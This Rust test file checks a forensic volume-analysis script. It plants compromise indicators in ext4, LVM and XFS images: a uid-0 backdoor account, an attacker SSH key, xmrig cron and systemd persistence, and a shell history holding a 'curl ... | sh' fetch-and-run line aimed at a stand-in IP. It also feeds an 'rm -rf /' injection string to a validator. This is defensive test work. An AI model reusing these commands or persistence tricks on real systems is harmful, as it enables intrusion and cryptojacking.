//! `infra/host/analyse-volume.sh`, run for real on an ext4 image this test
//! builds without root (`mkfs.ext4 -d`), with planted persistence and
//! crypto-mining indicators, used as the evidence "device": every indicator is
//! found at its path inside the file system, the timeline lists the files, and
//! the image's SHA-256 is the same before and after.

use std::collections::BTreeSet;
use std::path::Path;
use std::process::Command;

use playbook::case::custody::sha256_hex;
use serde_json::Value;
use system_tests::repo_root;

fn plant(root: &Path, path: &str, text: &str, mode: u32) {
    use std::os::unix::fs::PermissionsExt;
    let file = root.join(path);
    std::fs::create_dir_all(file.parent().expect("a parent")).expect("dirs");
    std::fs::write(&file, text).expect("planted");
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(mode)).expect("mode");
}

#[test]
fn analysis_finds_planted_persistence_and_miner_indicators_and_changes_nothing() {
    let work = std::env::temp_dir().join(format!("ec2-forensics-analysis-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&work);
    let tree = work.join("tree");
    plant(&tree, "etc/passwd", "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/usr/sbin:/usr/sbin/nologin\nbackdoor:x:0:0::/root:/bin/sh\nminer:x:1001:1001::/home/miner:/bin/bash\n", 0o644);
    plant(
        &tree,
        "home/miner/.ssh/authorized_keys",
        "# added\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttacker attacker@evil\n",
        0o600,
    );
    plant(
        &tree,
        "etc/cron.d/update",
        "SHELL=/bin/sh\n*/5 * * * * root /tmp/.x/xmrig -c /tmp/.x/config.json\n",
        0o644,
    );
    plant(
        &tree,
        "etc/systemd/system/kworkerd.service",
        "[Unit]\nDescription=kernel worker\n[Service]\nExecStart=/usr/local/bin/kworkerd --quiet\n",
        0o644,
    );
    plant(
        &tree,
        "home/miner/.bash_history",
        "curl -s http://203.0.113.9/x.sh | sh\n./xmrig -o stratum+tcp://pool.minexmr.com:4444\n",
        0o600,
    );
    plant(&tree, "tmp/.x/config.json", "{\"pools\":[{\"url\":\"stratum+tcp://xmr.supportxmr.com:3333\",\"user\":\"44wallet\"}],\"donate-level\":1}\n", 0o644);
    plant(
        &tree,
        "usr/local/bin/kworkerd",
        "\u{7f}ELF XMRig/6.21 xmrig randomx\n",
        0o755,
    );
    // A name an attacker chose, with a quote and a pipe: data, never shell text.
    plant(
        &tree,
        "tmp/.x/a\"b|c.json",
        "{\"pools\":[{\"url\":\"stratum+ssl://x.example:443\",\"coin\":\"monero\"}]}\n",
        0o644,
    );
    plant(&tree, "var/log/syslog", "nothing to see\n", 0o644);

    let image = work.join("volume.img");
    let made = Command::new("mkfs.ext4")
        .args(["-q", "-F", "-d"])
        .arg(&tree)
        .arg(&image)
        .arg("16M")
        .output()
        .expect("mkfs.ext4 runs (make setup installs e2fsprogs)");
    assert!(
        made.status.success(),
        "{}",
        String::from_utf8_lossy(&made.stderr)
    );
    let before = sha256_hex(&std::fs::read(&image).expect("image"));

    let out = work.join("out");
    let findings = analyse(&image, "vol-0123456789abcdef0", &out);
    assert_eq!(
        sha256_hex(&std::fs::read(&image).expect("image")),
        before,
        "the evidence is unchanged"
    );

    assert_eq!(findings["volumeId"], "vol-0123456789abcdef0");
    assert_eq!(findings["deviceSha256Before"], before.as_str());
    assert_eq!(findings["deviceSha256After"], before.as_str());
    assert_eq!(findings["unchanged"], true);
    let found: BTreeSet<(String, String)> = findings["indicators"]
        .as_array()
        .expect("indicators")
        .iter()
        .map(|i| {
            (
                i["kind"].as_str().unwrap().to_owned(),
                i["path"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    for (kind, path) in [
        ("user", "/etc/passwd"),
        ("authorized_keys", "/home/miner/.ssh/authorized_keys"),
        ("cron", "/etc/cron.d/update"),
        ("systemd", "/etc/systemd/system/kworkerd.service"),
        ("shell-history", "/home/miner/.bash_history"),
        ("crypto-mining", "/home/miner/.bash_history"),
        ("crypto-mining", "/tmp/.x/config.json"),
        ("crypto-mining", "/tmp/.x/a\"b|c.json"),
        ("crypto-mining", "/usr/local/bin/kworkerd"),
        ("recent-executable", "/usr/local/bin/kworkerd"),
    ] {
        assert!(
            found.contains(&(kind.to_owned(), path.to_owned())),
            "{kind} at {path}: {found:#?}"
        );
    }
    assert!(
        !found.iter().any(|(_, p)| p == "/var/log/syslog"),
        "no indicator in a plain log"
    );
    let details: Vec<&str> = findings["indicators"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|i| i["detail"].as_str())
        .collect();
    assert!(details.contains(&"backdoor has uid 0"), "{details:#?}");
    assert!(
        details.iter().any(|d| d.starts_with("miner uid 1001")),
        "{details:#?}"
    );
    assert!(details.contains(&"*/5 * * * * root /tmp/.x/xmrig -c /tmp/.x/config.json"));
    assert!(details.contains(&"ExecStart=/usr/local/bin/kworkerd --quiet"));
    assert!(
        details.contains(&"YARA XmrigMiner")
            && details.contains(&"YARA StratumPoolUrl")
            && details.contains(&"YARA MinerConfiguration")
    );

    // Every extracted file is the file system's bytes, with its hash.
    for file in findings["files"].as_array().expect("files") {
        let bytes = std::fs::read(out.join(file["file"].as_str().unwrap())).expect("extracted");
        assert_eq!(sha256_hex(&bytes), file["sha256"].as_str().unwrap());
        let planted =
            std::fs::read(tree.join(file["path"].as_str().unwrap().trim_start_matches('/')))
                .expect("planted");
        assert_eq!(bytes, planted, "{}", file["path"]);
    }

    let timeline = std::fs::read_to_string(out.join("timeline.csv")).expect("timeline.csv");
    assert!(timeline.starts_with("Date,Size,Type,Mode,UID,GID,Meta,File Name\n"));
    for path in [
        "/etc/cron.d/update",
        "/usr/local/bin/kworkerd",
        "/var/log/syslog",
    ] {
        assert!(
            timeline.contains(&format!("\"{path}\"")),
            "{path} in the timeline"
        );
    }

    // A second run into the same directory is refused rather than mixed.
    let again = Command::new(repo_root().join("infra/host/analyse-volume.sh"))
        .args(["--device"])
        .arg(&image)
        .args(["--volume-id", "vol-0123456789abcdef0", "--out"])
        .arg(&out)
        .output()
        .expect("runs");
    assert_eq!(again.status.code(), Some(2));
    let _ = std::fs::remove_dir_all(&work);
}

fn map_device(volume_id: &str) -> std::process::Output {
    let fixtures = repo_root().join("tests/fixtures/sys-nitro");
    Command::new(repo_root().join("infra/host/map-device.sh"))
        .args(["--volume-id", volume_id, "--sys"])
        .arg(&fixtures)
        .args(["--dev", "/dev"])
        .output()
        .expect("map-device.sh runs")
}

#[test]
fn evidence_volumes_are_found_by_their_nvme_serial_not_by_the_requested_name() {
    let evidence = map_device("vol-0123456789abcdef0");
    assert!(
        evidence.status.success(),
        "{}",
        String::from_utf8_lossy(&evidence.stderr)
    );
    assert_eq!(String::from_utf8_lossy(&evidence.stdout), "/dev/nvme1n1\n");
    let old_id = map_device("vol-1234abcd");
    assert_eq!(String::from_utf8_lossy(&old_id.stdout), "/dev/nvme3n1\n");

    let detached = map_device("vol-0fffffffffffffff0");
    assert_eq!(
        detached.status.code(),
        Some(1),
        "a volume that is not attached"
    );
    assert!(String::from_utf8_lossy(&detached.stderr).contains("no EBS NVMe device"));
    // An instance-store serial is never taken for a volume's, and a requested
    // device name or anything but a volume id is refused.
    for bad in ["AWS1D2C3B4A59687706F", "/dev/sdf", "vol-0123; rm -rf /", ""] {
        assert_eq!(map_device(bad).status.code(), Some(2), "{bad:?}");
    }
}

#[test]
fn a_logical_volume_is_read_through_the_physical_volumes_own_metadata() {
    // The first MiB of a PV written by the real lvm2 tools (see
    // tests/fixtures/lvm/README.md): LV evidencevg/root at sector 10240.
    let work = std::env::temp_dir().join(format!("ec2-forensics-lvm-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&work);
    std::fs::create_dir_all(&work).expect("work dir");
    let filesystem = work.join("root.img");
    let made = Command::new(repo_root().join("infra/local/evidence-disk.sh"))
        .arg(&filesystem)
        .output()
        .expect("evidence-disk.sh runs");
    assert!(
        made.status.success(),
        "{}",
        String::from_utf8_lossy(&made.stderr)
    );
    let header = Command::new("gzip")
        .arg("-dc")
        .arg(repo_root().join("tests/fixtures/lvm/pv-header.img.gz"))
        .output()
        .expect("gzip runs");
    assert_eq!(header.stdout.len(), 1024 * 1024);
    let mut pv = header.stdout;
    pv.resize(5 * 1024 * 1024, 0);
    pv.extend(std::fs::read(&filesystem).expect("file system image"));
    pv.resize(40 * 1024 * 1024, 0);
    let device = work.join("pv.img");
    std::fs::write(&device, &pv).expect("PV image");
    let before = sha256_hex(&pv);

    let findings = analyse(&device, "vol-0fedcba9876543210", &work.join("out"));
    assert_eq!(
        findings["lvm"],
        serde_json::json!([{
            "volumeGroup": "evidencevg", "logicalVolume": "root",
            "physicalVolumeOffset": 0, "offset": 10240, "status": "read"
        }])
    );
    assert_eq!(findings["partitions"], serde_json::json!([10240]));
    assert_indicators(
        &findings,
        &[
            ("cron", "/etc/cron.d/sysupdate"),
            ("authorized_keys", "/root/.ssh/authorized_keys"),
            ("crypto-mining", "/tmp/.x/config.json"),
        ],
    );
    assert_eq!(findings["unchanged"], true);
    assert_eq!(
        sha256_hex(&std::fs::read(&device).expect("PV image")),
        before,
        "the evidence is unchanged"
    );
    std::fs::remove_dir_all(&work).expect("cleaned up");
}

/// Runs analyse-volume.sh on `device` into `out`; its findings.json.
fn analyse(device: &Path, volume_id: &str, out: &Path) -> Value {
    let run = Command::new(repo_root().join("infra/host/analyse-volume.sh"))
        .arg("--device")
        .arg(device)
        .args(["--volume-id", volume_id, "--out"])
        .arg(out)
        .output()
        .expect("analyse-volume.sh runs");
    assert!(
        run.status.success(),
        "exit {:?}: {}",
        run.status.code(),
        String::from_utf8_lossy(&run.stderr)
    );
    serde_json::from_slice(&std::fs::read(out.join("findings.json")).expect("findings.json"))
        .expect("findings.json is JSON")
}

/// Asserts that findings.json lists every (kind, path) indicator.
fn assert_indicators(findings: &Value, expected: &[(&str, &str)]) {
    let found: BTreeSet<(String, String)> = findings["indicators"]
        .as_array()
        .expect("indicators")
        .iter()
        .map(|i| {
            (
                i["kind"].as_str().unwrap_or_default().to_owned(),
                i["path"].as_str().unwrap_or_default().to_owned(),
            )
        })
        .collect();
    for (kind, path) in expected {
        assert!(
            found.contains(&((*kind).to_owned(), (*path).to_owned())),
            "{kind} {path}: {found:?}"
        );
    }
}

fn run(program: &str, args: &[&std::ffi::OsStr]) {
    let out = Command::new(program)
        .args(args)
        .output()
        .unwrap_or_else(|e| panic!("{program}: {e}"));
    assert!(
        out.status.success(),
        "{program} {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn an_xfs_file_system_is_mounted_read_only_without_journal_replay() {
    // The Sleuth Kit 4.11 does not read XFS (Amazon Linux 2023's root): the
    // script mounts it read-only, which needs root and a loop device, as on
    // the forensic workstation (make test runs as root on CI).
    let uid = Command::new("id").arg("-u").output().expect("id runs");
    assert_eq!(
        String::from_utf8_lossy(&uid.stdout).trim(),
        "0",
        "this test mounts an XFS image: it needs root and loop devices"
    );
    let work = std::env::temp_dir().join(format!("ec2-forensics-xfs-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&work);
    let tree = work.join("tree");
    plant(
        &tree,
        "etc/cron.d/miner",
        "*/5 * * * * root /tmp/.x/xmrig\n",
        0o644,
    );
    plant(
        &tree,
        "tmp/.x/config.json",
        "{\"url\":\"stratum+tcp://pool.supportxmr.com:3333\"}\n",
        0o644,
    );
    plant(
        &tree,
        "root/.ssh/authorized_keys",
        "ssh-ed25519 AAAAkey intruder@203.0.113.9\n",
        0o600,
    );
    // Build the XFS image (mkfs.xfs has no -d DIR): mount it read-write once.
    let image = work.join("xfs.img");
    std::fs::File::create(&image)
        .unwrap()
        .set_len(320 * 1024 * 1024)
        .unwrap();
    run("mkfs.xfs", &["-q".as_ref(), image.as_os_str()]);
    let loop_device = Command::new("losetup")
        .args(["--find", "--show"])
        .arg(&image)
        .output()
        .expect("losetup runs");
    assert!(
        loop_device.status.success(),
        "{}",
        String::from_utf8_lossy(&loop_device.stderr)
    );
    let loop_device = String::from_utf8(loop_device.stdout)
        .unwrap()
        .trim()
        .to_owned();
    let mnt = work.join("mnt");
    std::fs::create_dir_all(&mnt).unwrap();
    run("mount", &[loop_device.as_ref(), mnt.as_os_str()]);
    run(
        "cp",
        &["-a".as_ref(), tree.join(".").as_os_str(), mnt.as_os_str()],
    );
    run("umount", &[mnt.as_os_str()]);
    run("losetup", &["-d".as_ref(), loop_device.as_ref()]);
    let before = sha256_hex(&std::fs::read(&image).unwrap());

    let out = work.join("out");
    let findings = analyse(&image, "vol-0a1b2c3d4e5f60718", &out);
    assert_eq!(
        findings["mounted"],
        serde_json::json!([{"offset": 0, "type": "xfs", "options": "ro,norecovery,noexec,nodev,nosuid"}])
    );
    assert_indicators(
        &findings,
        &[
            ("cron", "/etc/cron.d/miner"),
            ("crypto-mining", "/tmp/.x/config.json"),
            ("authorized_keys", "/root/.ssh/authorized_keys"),
        ],
    );
    let timeline = std::fs::read_to_string(out.join("timeline.csv")).unwrap();
    assert!(
        timeline.contains("/etc/cron.d/miner"),
        "the timeline lists the mounted files"
    );
    assert_eq!(
        sha256_hex(&std::fs::read(&image).unwrap()),
        before,
        "the evidence is unchanged"
    );
    // Nothing stays mounted or attached.
    let mounts = std::fs::read_to_string("/proc/mounts").unwrap();
    assert!(
        !mounts.contains("ec2-forensics") && !mounts.contains("/tmp/tmp."),
        "{mounts}"
    );
    let loops = Command::new("losetup").arg("-a").output().unwrap();
    assert!(
        !String::from_utf8_lossy(&loops.stdout).contains(image.to_str().unwrap()),
        "the loop device is detached"
    );
    std::fs::remove_dir_all(&work).unwrap();
}
